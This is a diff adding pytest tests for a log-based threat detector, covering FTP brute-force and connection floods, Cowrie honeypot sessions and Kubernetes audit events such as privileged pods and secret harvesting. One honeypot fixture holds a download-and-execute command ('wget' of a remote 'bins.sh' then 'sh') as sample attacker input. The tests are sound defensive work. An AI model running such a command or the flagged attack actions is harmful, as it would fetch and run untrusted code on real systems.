@@ -1479,3 +1479,79 @@ def test_azure_export_blob_is_expanded_and_key_vault_harvest_counts_distinct_sec
     assert events[0].fields["user"] == "app@contoso.com"
     assert fired(Detector(rules).scan(events)) == {"lw-azure-keyvault-secret-harvest"}
     assert Detector(rules).scan(events[:9]) == []  # nine secrets: below the threshold
+
+
+# --- FTP daemons, the Cowrie honeypot, Kubernetes audit ---------------------------------------------
+
+@pytest.mark.parametrize("lines, fmt, rule_id", [
+    ([f"Jun 17 07:07:{i:02d} combo ftpd[{29504 + i}]: connection from 24.54.76.216 (24-54-76-216.bflony.adelphia.net) "
+      "at Fri Jun 17 07:07:00 2005" for i in range(20)], "syslog", "lw-ftp-connection-flood"),  # LogHub Linux
+    ([f'Mar 12 10:00:{i:02d} ftp vsftpd[{1234 + i}]: [root] FAIL LOGIN: Client "::ffff:45.9.20.11"' for i in range(5)],
+     "syslog", "lw-ftp-login-failures"),
+    ([f'Tue Mar 12 10:00:{i:02d} 2024 [pid {1234 + i}] [root] FAIL LOGIN: Client "45.9.20.11"' for i in range(5)],
+     "generic", "lw-ftp-login-failures"),  # vsftpd.log's own format
+    ([f"Mar 12 10:00:{i:02d} ftp proftpd[{1234 + i}]: ftp (45.9.20.11[45.9.20.11]) - USER root (Login failed): "
+      "Incorrect password" for i in range(5)], "syslog", "lw-ftp-login-failures"),
+    ([f"Mar 12 10:00:{i:02d} ftp pure-ftpd: (?@45.9.20.11) [WARNING] Authentication failed for user [admin]"
+      for i in range(5)], "syslog", "lw-ftp-login-failures"),
+])
+def test_ftp_brute_force_and_connection_floods(rules, lines, fmt, rule_id):
+    signals = Detector(rules).scan(parsed(lines, fmt, "ftp.log"))
+    assert [(s.rule_id, s.key) for s in signals] == [(rule_id, "24.54.76.216" if "flood" in rule_id else "45.9.20.11")]
+    assert Detector(rules).scan(parsed(lines[:4], fmt, "ftp.log")) == []
+
+
+def _cowrie(eventid: str, second: int = 0, **extra) -> str:
+    return json.dumps({"eventid": eventid, "timestamp": f"2024-05-02T10:00:{second:02d}.123456Z", "src_ip": "45.9.20.11",
+                       "session": "a1b2c3", "sensor": "hp1", **extra})
+
+
+def test_cowrie_honeypot_sessions(rules):
+    failed = [_cowrie("cowrie.login.failed", i, username="root", password=f"pw{i}") for i in range(5)]
+    session = [_cowrie("cowrie.login.success", 6, username="root", password="admin"),
+               _cowrie("cowrie.command.input", 7, input="uname -a"),
+               _cowrie("cowrie.command.input", 8, input="cd /tmp; wget http://45.9.20.11/bins.sh; chmod 777 bins.sh; sh bins.sh"),
+               _cowrie("cowrie.session.file_download", 9, url="http://45.9.20.11/bins.sh", shasum="ab" * 32)]
+    signals = Detector(rules).scan(parsed(failed + session, "json", "cowrie.json"))
+    assert {(s.rule_id, s.level) for s in signals} == {("lw-cowrie-login-bruteforce", "medium"),
+                                                       ("lw-cowrie-login-success", "high"),
+                                                       ("lw-cowrie-malware-download", "high")}
+    assert [s.line_numbers for s in signals if s.rule_id == "lw-cowrie-malware-download"] == [[8, 9]]
+
+
+def _k8s(verb: str, resource: str, *, code: int = 200, user: str = "dev@corp.io", subresource: str | None = None,
+         name: str = "x", second: int = 0, body: dict | None = None, uri: str = "/api/v1/x") -> str:
+    ref = {"resource": resource, "namespace": "prod", "name": name} | ({"subresource": subresource} if subresource else {})
+    return json.dumps({"kind": "Event", "apiVersion": "audit.k8s.io/v1", "level": "RequestResponse", "stage": "ResponseComplete",
+                       "auditID": f"id{second}", "requestURI": uri, "verb": verb,
+                       "user": {"username": user, "groups": ["system:authenticated"]}, "sourceIPs": ["45.9.20.11"],
+                       "objectRef": ref, "responseStatus": {"metadata": {}, "code": code}, "requestObject": body,
+                       "requestReceivedTimestamp": f"2024-05-02T10:00:{second:02d}.000000Z"})
+
+
+@pytest.mark.parametrize("lines, rule_id", [
+    ([_k8s("create", "pods", subresource="exec", code=101)], "lw-k8s-exec-into-pod"),
+    ([_k8s("create", "clusterrolebindings", code=201, body={"kind": "ClusterRoleBinding", "roleRef": {
+        "apiGroup": "rbac.authorization.k8s.io", "kind": "ClusterRole", "name": "cluster-admin"}})], "lw-k8s-cluster-admin-granted"),
+    ([_k8s("create", "pods", code=201, body={"spec": {"hostPID": True, "containers": [{"name": "x", "image": "alpine",
+                                             "securityContext": {"privileged": True}}]}})], "lw-k8s-privileged-pod"),
+    ([_k8s("get", "secrets", name=f"s{i}", second=i) for i in range(10)], "lw-k8s-secrets-harvest"),
+    ([_k8s("list", "pods", user="system:anonymous", uri="/api/v1/pods")], "lw-k8s-anonymous-access"),
+    ([_k8s("list", "secrets", code=403, user="system:serviceaccount:prod:web", second=i) for i in range(10)],
+     "lw-k8s-forbidden-burst"),
+])
+def test_kubernetes_audit_rules(rules, lines, rule_id):
+    events = parsed(lines, "json", "k8s-audit.log")
+    assert (events[0].fields["src_ip"], events[0].ts is not None) == ("45.9.20.11", True)
+    assert fired(Detector(rules).scan(events)) == {rule_id}
+
+
+@pytest.mark.parametrize("lines", [
+    [_k8s("create", "pods", subresource="exec", code=403)],
+    [_k8s("create", "rolebindings", code=201, body={"roleRef": {"kind": "Role", "name": "pod-reader"}})],
+    [_k8s("create", "pods", code=201, body={"spec": {"containers": [{"name": "x", "image": "nginx"}]}})],
+    [_k8s("get", "secrets", name="s1", second=i) for i in range(10)],  # the same secret ten times
+    [_k8s("get", "version", user="system:anonymous", uri="/version")],
+])
+def test_routine_kubernetes_activity_is_quiet(rules, lines):
+    assert Detector(rules).scan(parsed(lines, "json", "k8s-audit.log")) == []
